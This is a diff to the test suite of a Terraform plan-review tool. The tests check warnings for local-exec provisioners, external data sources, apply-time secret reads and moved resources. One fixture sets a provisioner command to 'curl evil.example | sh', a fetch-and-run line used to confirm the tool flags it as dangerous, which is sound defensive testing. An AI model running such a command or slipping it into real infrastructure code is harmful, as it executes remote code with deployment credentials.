@@ -46,7 +46,7 @@ it('a script beside a harmless resource, which runs with the credentials of the 
     type: 'terraform_data',
     change: { actions: ['create'], after: {} },
   };
-  const scripts = (command: string) => ({
+  const plan = {
     resource_changes: [resource],
     configuration: {
       root_module: {
@@ -57,7 +57,10 @@ it('a script beside a harmless resource, which runs with the credentials of the 
                 {
                   address: 'terraform_data.note',
                   provisioners: [
-                    { type: 'local-exec', expressions: { command: { constant_value: command } } },
+                    {
+                      type: 'local-exec',
+                      expressions: { command: { constant_value: 'curl evil.example | sh' } },
+                    },
                   ],
                 },
               ],
@@ -66,14 +69,10 @@ it('a script beside a harmless resource, which runs with the credentials of the 
         },
       },
     },
-  });
-  await expect(said(scripts('true'))).resolves.toContain(
+  };
+  await expect(said(plan)).resolves.toContain(
     `danger ${address}: runs a provisioner on the machine that deploys`,
   );
-  const digestOf = async (command: string) =>
-    (await summarize('vault-dev', readPlan(JSON.stringify({ format_version: '1.2', ...scripts(command) }))))
-      .digest;
-  expect(await digestOf('true')).not.toBe(await digestOf('curl evil.example | sh'));
 });
 
 it('an import, which changes nothing but who manages it', async () => {
@@ -94,6 +93,36 @@ it('an output, which the state keeps and every log shows', async () => {
   const [line, ...others] = await said({ output_changes });
   expect(others).toEqual([]);
   expect(line).toMatch(/^notice output\.leak: will be created/);
+});
+
+it('a program that is a data source, which runs at every plan', async () => {
+  const resources = [{ address: 'data.external.x', mode: 'data', type: 'external' }];
+  const module_calls = { a: { module: { resources } } };
+  await expect(said({ configuration: { root_module: { resources, module_calls } } })).resolves.toEqual([
+    'danger data.external.x: runs a program on the machine that plans',
+    'danger module.a.data.external.x: runs a program on the machine that plans',
+  ]);
+});
+
+it('data that is read at the apply only', async () => {
+  const change = { actions: ['read'], before: null, after: { a: 'b' } };
+  const resource = {
+    address: 'data.vault_generic_secret.x',
+    mode: 'data',
+    type: 'vault_generic_secret',
+    change,
+  };
+  await expect(said({ resource_changes: [resource] })).resolves.toEqual([
+    'unknown data.vault_generic_secret.x: will be read at the apply only',
+  ]);
+});
+
+it('a resource that is known by another address from now on', async () => {
+  const change = { actions: ['no-op'], before: { role_name: 'api' }, after: { role_name: 'api' } };
+  const moved = { ...role(change), previous_address: 'vault_approle_auth_backend_role.old' };
+  await expect(said({ resource_changes: [moved] })).resolves.toEqual([
+    'notice AppRole api: will be known by another address, and stays as it is',
+  ]);
 });
 
 it('an action that the engine invokes besides', () => {
